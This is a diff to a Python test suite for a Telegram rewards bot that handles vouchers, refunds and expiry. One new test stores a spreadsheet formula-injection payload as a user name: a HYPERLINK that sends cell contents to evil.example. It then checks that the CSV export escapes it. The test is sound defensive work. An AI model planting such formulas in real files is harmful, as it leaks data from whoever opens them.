@@ -1,15 +1,19 @@
 """Rewards: the catalog, redeeming under contention, vouchers at the desk, expiry and refunds."""
 
 import asyncio
+import csv
+import io
 import re
-from datetime import timedelta
+from datetime import UTC, datetime, timedelta
 
 import pytest
 
+from bot.app import VOUCHER_EXPIRY_JOB
 from bot.services.rewards import CODE_ALPHABET, CODE_LENGTH, show_code
+from handlers.common import once
 from storage.models import RoleName
 from tests.support.flows import add_station, received, seed_talent
-from tests.support.harness import ADMIN_ID
+from tests.support.harness import ADMIN_ID, eventually
 
 REWARD = {
     "name_zh": "温泉酒店一晚",
@@ -85,7 +89,7 @@ async def test_refusals_say_which_condition_failed(harness, shop):
     assert (await harness.services.rewards.redeem(rich.id, reward.id))[0] == "limit"
     user = harness.user("Rich", id=502)
     await user.send("/rewards")
-    await user.press(f"rw:yes:{reward.id}", forge=True)
+    await user.press(once(f"rw:yes:{reward.id}"), forge=True)
     assert "You already have as many of these as one person may." in user.last_text()
     admin = await harness.services.people.viewer(ADMIN_ID, "en")
     await harness.services.rewards.edit(admin, reward.id, "stock", 0)
@@ -142,7 +146,7 @@ async def test_the_desk_verifies_once(harness, shop):
     assert "Status: ☑️ already used on 11/26/26" in desk.last_text()
     assert f"(by {desk.id})" in desk.last_text()
     assert desk.buttons() == []
-    await desk.press(f"vc:use:{voucher.code}", forge=True)
+    await desk.press(once(f"vc:use:{voucher.code}"), forge=True)
     assert desk.alerts()[-1] == "This voucher was already used."
     used = await harness.services.rewards.rewards.voucher(voucher.code)
     assert (used.status, used.used_by) == ("used", desk.id)
@@ -157,7 +161,7 @@ async def test_wrong_partner_and_other_talents_are_refused(harness, shop):
     wrong = await partner_of(harness, elsewhere, name="Wrong")
     await wrong.send(f"/verify {voucher.code}")
     assert wrong.last_text() == "Sorry, you are not allowed to do that."
-    await wrong.press(f"vc:use:{voucher.code}", forge=True)
+    await wrong.press(once(f"vc:use:{voucher.code}"), forge=True)
     assert wrong.alerts()[-1] == "Sorry, you are not allowed to do that."
     stranger = await seed_talent(harness, 502)
     user = harness.user("Stranger", id=stranger.telegram_id)
@@ -184,7 +188,7 @@ async def test_expiry_and_cancel_refund_exactly_once(harness, shop):
     await admin.send(f"/verify {cancelled.code}")
     await admin.tap("❌ Cancel voucher (refund)")
     assert admin.alerts()[-1] == "Cancelled; the points and the stock are back."
-    await admin.press(f"vc:cancel:{cancelled.id}", forge=True)
+    await admin.press(once(f"vc:cancel:{cancelled.id}"), forge=True)
     assert admin.alerts()[-1] == "Only a valid voucher can be cancelled."
     harness.clock.advance(timedelta(days=31))
     assert await harness.services.rewards.expire_due() == 1
@@ -253,7 +257,7 @@ async def test_catalog_is_admins_only(harness, shop):
             "adm:rwadd",
             f"adm:rwedit:{reward.id}:cost",
             f"adm:rwtoggle:{reward.id}",
-            "vc:cancel:1",
+            once("vc:cancel:1"),
         ):
             await user.press(data, forge=True)
             assert user.alerts()[-1] == "Sorry, you are not allowed to do that.", data
@@ -281,3 +285,91 @@ async def test_partner_statement(harness, shop):
     await other.press(f"st:{hotel.id}:2026:11", forge=True)
     assert other.alerts()[-1] == "Sorry, you are not allowed to do that."
     assert received(harness, other.id)[-1] != desk.texts()[-2]
+
+
+async def test_statement_cells_never_run_as_formulas(harness, shop):
+    hotel, _ = shop
+    admin = await harness.services.people.viewer(ADMIN_ID, "en")
+    reward = await harness.services.rewards.add(
+        admin,
+        {**REWARD, "name_en": "+SUM(1,2)", "stock": 9, "station_id": hotel.id},
+    )
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3", "Wang Li"]
+    desk = await partner_of(harness, hotel)
+    for i, name in enumerate(names):
+        talent = await seed_talent(harness, 501 + i)
+        await harness.services.people.update_profile(talent.id, {"name": name})
+        await give_points(harness, talent, 50)
+        _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
+        await desk.send(f"/verify {voucher.code}")
+        await desk.tap("☑️ Mark used")
+    await desk.send("/statement")
+    await desk.tap("Spa hotel · 2026-11")
+    document = harness.api.bot_messages(desk.id)[-1]["document"]
+    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(content)))
+    assert [row[4] for row in rows[1:]] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "'@SUM(A1:A9)",
+        "'-2+3",
+        "Wang Li",
+    ]
+    assert {row[3] for row in rows[1:]} == {"'+SUM(1,2)"}
+    assert {row[5] for row in rows[1:]} == {"50"}
+
+
+async def test_the_application_expires_vouchers_at_start_and_every_hour(harness, shop):
+    _, reward = shop
+    talent = await seed_talent(harness, 501)
+    await give_points(harness, talent, 50)
+    user = harness.user("T", id=501)
+
+    async def redeem_in_chat():
+        await user.send("/rewards")
+        await user.tap(user.buttons()[0])
+        await user.tap("🎁 Redeem")
+        await user.tap("Yes, redeem")
+        [voucher, *_] = await harness.services.rewards.rewards.vouchers_of(talent.id)
+        return voucher
+
+    first = await redeem_in_chat()
+    assert await balance(harness, talent) == 0
+    job_queue = harness.app.job_queue
+    [job] = job_queue.get_jobs_by_name(VOUCHER_EXPIRY_JOB)
+    assert job.job.trigger.interval == timedelta(hours=1)
+
+    async def status(voucher):
+        return (await harness.services.rewards.rewards.voucher_by_id(voucher.id)).status
+
+    async def expired(voucher):
+        return await status(voucher) == "expired"
+
+    harness.clock.advance(timedelta(days=45))
+    assert await status(first) == "valid"
+    await job_queue.start()  # what Application.start does; the job's first run is at start
+    try:
+        await eventually(lambda: expired(first))
+        assert await balance(harness, talent) == 50
+        assert (await harness.services.rewards.rewards.get(reward.id)).stock == 3
+        await user.send("/vouchers")
+        assert user.buttons() == [
+            f"⌛ expired · A night at the spa hotel · {show_code(first.code)}"
+        ]
+        second = await redeem_in_chat()
+        assert second.id != first.id and await balance(harness, talent) == 0
+        # An hour later the scheduler runs it again: the new voucher expires, the old one is
+        # not refunded a second time.
+        harness.clock.advance(timedelta(days=31))
+        job.job.modify(next_run_time=datetime.now(UTC))
+        await eventually(lambda: expired(second))
+    finally:
+        await job_queue.stop()
+    refunds = await harness.services.db.fetch_all(
+        "SELECT ref, delta FROM ledger WHERE kind = 'refund' ORDER BY id"
+    )
+    assert [tuple(r) for r in refunds] == [
+        (f"voucher:{first.id}", 50),
+        (f"voucher:{second.id}", 50),
+    ]
+    assert await balance(harness, talent) == 50
+    assert (await harness.services.rewards.rewards.get(reward.id)).stock == 3
